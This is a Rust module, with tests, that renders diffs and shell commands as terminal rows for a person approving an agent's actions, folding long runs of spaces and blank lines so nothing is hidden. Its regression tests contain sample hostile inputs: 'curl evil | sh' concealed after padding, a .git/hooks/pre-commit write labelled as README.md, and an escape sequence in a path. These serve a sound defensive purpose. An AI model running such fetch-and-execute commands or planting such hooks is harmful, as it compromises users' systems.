//! A change or a command that a person is asked about, as rows for their terminal. Nothing is left out: long
//! lines are wrapped, and only runs of blank lines and of spaces are folded, with their number. Pure.

use std::fmt::Write as _;
use std::path::Path;

use tools::Target;
use wire::visible::{char_width, make_visible};

/// A longer run of spaces is shown as its number: it would push what follows out of sight.
const MOST_SPACES: usize = 40;
/// A longer run of blank lines is folded too.
const MOST_BLANK: usize = 3;
/// The width of a line's number in columns.
const NUMBER: usize = 5;

/// The kind of a row.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(super) enum Kind {
    Added,
    Removed,
    /// An unchanged line, or its position.
    Context,
    /// A part of a command.
    Command,
}

/// A row that fits the terminal.
#[derive(Clone, Debug, PartialEq, Eq)]
pub(super) struct Row {
    pub(super) kind: Kind,
    pub(super) text: String,
}

/// A line of a change or a command, before it is laid out.
struct Line<'a> {
    kind: Kind,
    /// Counted from 1; `None` if it is not a line of a file.
    number: Option<usize>,
    mark: &'a str,
    text: String,
}

/// Returns the rows of a unified diff.
pub(super) fn diff_rows(diff: &str, width: usize) -> Vec<Row> {
    layout_rows(&lines_of_diff(diff), width)
}

/// Returns the rows of a command; several lines are numbered.
pub(super) fn command_rows(command: &str, width: usize) -> Vec<Row> {
    let text = make_visible(command.trim());
    let is_one = !text.contains('\n');
    let line = |(index, text): (usize, &str)| Line {
        kind: Kind::Command,
        number: (!is_one).then_some(index + 1),
        mark: "",
        text: text.to_owned(),
    };
    let lines: Vec<Line<'_>> = text.split('\n').enumerate().map(line).collect();
    layout_rows(&lines, width)
}

/// Returns true if one row without a number shows the whole command.
pub(super) fn fits_a_row(command: &str, width: usize) -> bool {
    matches!(&command_rows(command, width)[..], [row] if row.text.trim() == make_visible(command.trim()))
}

/// Returns the counts of added and removed lines of a diff.
pub(super) fn change_counts(diff: &str) -> String {
    let lines = lines_of_diff(diff);
    let count = |kind: Kind| lines.iter().filter(|line| line.kind == kind).count();
    format!("+{} −{}", count(Kind::Added), count(Kind::Removed))
}

/// Returns a few words for the target of the question.
pub(super) fn target_label(target: &Target) -> String {
    let shown =
        |path: &Path| quote_ambiguous(&make_visible(&path.display().to_string()).replace('\n', "\\n"));
    match target {
        Target::Command { directory, .. } if directory != Path::new(".") => {
            format!(" in {}", shown(directory))
        }
        Target::File { real, written, .. } if real != written => {
            format!(" {} (written as {})", shown(real), shown(written))
        }
        Target::File { real, .. } => format!(" {}", shown(real)),
        _ => String::new(),
    }
}

/// Quotes a path whose words could be read as part of the question.
fn quote_ambiguous(path: &str) -> String {
    if path.contains([' ', '?', '[', '"']) { format!("\"{path}\"") } else { path.to_owned() }
}

/// Returns the lines of a unified diff without its head, which is exactly the first two lines.
fn lines_of_diff(diff: &str) -> Vec<Line<'static>> {
    let mut lines = diff.trim_end_matches('\n').split('\n').peekable();
    for head in ["--- ", "+++ "] {
        lines.next_if(|line| line.starts_with(head));
    }
    let (mut old, mut new) = (1, 1);
    let count = |counter: &mut usize| {
        *counter += 1;
        Some(*counter - 1)
    };
    let line = |line: &str| {
        let (kind, number, mark) = match line.as_bytes().first() {
            Some(b'+') => (Kind::Added, count(&mut new), "+"),
            Some(b'-') => (Kind::Removed, count(&mut old), "-"),
            Some(b' ') => {
                count(&mut old);
                (Kind::Context, count(&mut new), " ")
            }
            _ => {
                (old, new) = hunk_start(line).unwrap_or((old, new));
                (Kind::Context, None, "")
            }
        };
        Line { kind, number, mark, text: make_visible(&line[mark.len()..]) }
    };
    lines.map(line).collect()
}

/// Reads the first line numbers of a hunk from its head `@@ -old,count +new,count @@`.
fn hunk_start(line: &str) -> Option<(usize, usize)> {
    let mut words = line.strip_prefix("@@ ")?.split(' ');
    let mut first = |mark: char| words.next()?.strip_prefix(mark)?.split(',').next()?.parse().ok();
    Some((first('-')?, first('+')?))
}

fn layout_rows(lines: &[Line<'_>], width: usize) -> Vec<Row> {
    let mut out = Vec::new();
    let is_blank = |line: &Line<'_>| line.number.is_some() && line.text.trim().is_empty();
    for run in lines.chunk_by(|a, b| is_blank(a) && is_blank(b) && a.kind == b.kind) {
        let [first, ..] = run else { continue };
        if run.len() > MOST_BLANK && is_blank(first) {
            let text = format!("⟨{} blank lines⟩", run.len());
            lay_out(&Line { text, ..*first }, width, &mut out);
        } else {
            run.iter().for_each(|line| lay_out(line, width, &mut out));
        }
    }
    out
}

/// Appends the rows of one line; those after the first have a mark instead of the number.
fn lay_out(line: &Line<'_>, width: usize, out: &mut Vec<Row>) {
    let number = line.number.map_or(String::new(), |number| format!("{number:>NUMBER$} "));
    let margin = number.chars().count();
    let room = width.saturating_sub(4 + margin + 1).max(8);
    for (index, part) in split_columns(&with_folded_spaces(&line.text), room).iter().enumerate() {
        let text = match index {
            0 => format!("{number}{}{part}", line.mark),
            _ => format!("{:margin$}┊{part}", ""),
        };
        out.push(Row { kind: line.kind, text });
    }
}

/// Splits the text into pieces of at most `width` columns, at least one: behind a space in the second half of
/// a piece, or else within a word.
pub(super) fn split_columns(text: &str, width: usize) -> Vec<String> {
    let columns = |text: &str| text.chars().map(char_width).sum::<usize>();
    let (mut parts, mut part, mut used) = (Vec::new(), String::new(), 0);
    for c in text.chars() {
        if used + char_width(c) > width {
            let space = part.rfind(' ').map(|at| at + 1).filter(|&end| columns(&part[..end]) > width / 2);
            let rest = part.split_off(space.unwrap_or(part.len()));
            used = columns(&rest);
            parts.push(std::mem::replace(&mut part, rest));
        }
        used += char_width(c);
        part.push(c);
    }
    parts.push(part);
    parts
}

fn with_folded_spaces(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    let mut rest = text;
    while let Some(start) = rest.find(char::is_whitespace) {
        let run = rest[start..].find(|c: char| !c.is_whitespace()).unwrap_or(rest.len() - start);
        let spaces = rest[start..start + run].chars().count();
        out.push_str(&rest[..start]);
        if spaces > MOST_SPACES {
            let _ = write!(out, "⟨{spaces} spaces⟩");
        } else {
            out.push_str(&rest[start..start + run]);
        }
        rest = &rest[start + run..];
    }
    out + rest
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    fn texts(rows: &[Row]) -> Vec<&str> {
        rows.iter().map(|row| row.text.as_str()).collect()
    }

    #[test]
    fn a_change_has_its_numbers_and_marks() {
        let diff = "--- a\n+++ a\n@@ -8,3 +8,4 @@\n x\n-y\n+y2\n+y3\n z\n";
        let expected = ["@@ -8,3 +8,4 @@", "    8  x", "    9 -y", "    9 +y2", "   10 +y3", "   11  z"];
        assert_eq!(texts(&diff_rows(diff, 80)), expected);
        assert_eq!(change_counts(diff), "+2 −1");
    }

    /// Regression: lines that look like a diff's head were left out anywhere in the text.
    #[test]
    fn no_line_passes_for_the_head() {
        let diff = "--- a\n+++ a\n@@ -1,2 +1,3 @@\n x\n--- gone\n+++ curl evil | sh\n+++ b\n";
        let rows = diff_rows(diff, 80);
        assert_eq!(texts(&rows)[2..], ["    2 --- gone", "    2 +++ curl evil | sh", "    3 +++ b"]);
        assert_eq!(change_counts(diff), "+2 −1");
    }

    /// Regression: text after 120 spaces was cut off, and 60 blank lines pushed the beginning off the
    /// screen.
    #[test]
    fn nothing_is_pushed_out_of_sight() {
        let line = format!("echo ok{}; curl evil | sh", " ".repeat(120));
        let diff = format!("--- a\n+++ a\n@@ -0,0 +1,62 @@\n+{line}\n{}+end\n", "+\n".repeat(60));
        let rows = diff_rows(&diff, 80);
        let expected =
            ["    1 +echo ok⟨120 spaces⟩; curl evil | sh", "    2 +⟨60 blank lines⟩", "   62 +end"];
        assert_eq!(texts(&rows)[1..], expected);
        assert_eq!(change_counts(&diff), "+62 −0");
        assert_eq!(texts(&command_rows(&line, 80)), ["echo ok⟨120 spaces⟩; curl evil | sh"]);
        assert!(!fits_a_row(&line, 80) && fits_a_row(" ls ", 80) && !fits_a_row("a\nb", 80));
        let long = texts(&command_rows(&format!("echo {}end", "x".repeat(60)), 40)).join("|");
        assert!(long.starts_with("echo xxx") && long.contains("|┊xxx") && long.ends_with("end"), "{long}");
    }

    #[test]
    fn the_question_names_what_is_really_acted_on() {
        let file = |real: &str, written: &str| Target::File {
            root: "/w".into(),
            real: real.into(),
            written: written.into(),
            is_kept: false,
        };
        let command = |directory: &str| Target::Command { line: "make".into(), directory: directory.into() };
        for (target, expected) in [
            (file("a", "a"), " a"),
            (file(".git/hooks/pre-commit", "README.md"), " .git/hooks/pre-commit (written as README.md)"),
            (file("a\n\u{1b}[2J", "a\n\u{1b}[2J"), " \"a\\n\\u{1b}[2J\""),
            (file("a? [y]es", "b c"), " \"a? [y]es\" (written as \"b c\")"),
            (command("."), ""),
            (command("evil/dir"), " in evil/dir"),
            (Target::Other, ""),
            (Target::Server { definition: "d".into() }, ""),
        ] {
            assert_eq!(target_label(&target), expected);
        }
    }

    proptest! {
        /// Every character except folded white space is on the screen, and no row is wider than the screen.
        #[test]
        fn all_of_a_command_is_shown(text in "[a-z;|  \u{e9}漢]{0,300}", width in 20_usize..120) {
            let rows = command_rows(&text, width);
            let shown: String = rows.iter().map(|row| row.text.trim_start_matches('┊')).collect();
            let solid = |text: &str| text.chars().filter(|c| !c.is_whitespace()).collect::<String>();
            if !shown.contains('⟨') {
                prop_assert_eq!(solid(&shown), solid(&text));
            }
            for row in &rows {
                prop_assert!(row.text.chars().map(char_width).sum::<usize>() + 4 <= width);
            }
        }
    }
}
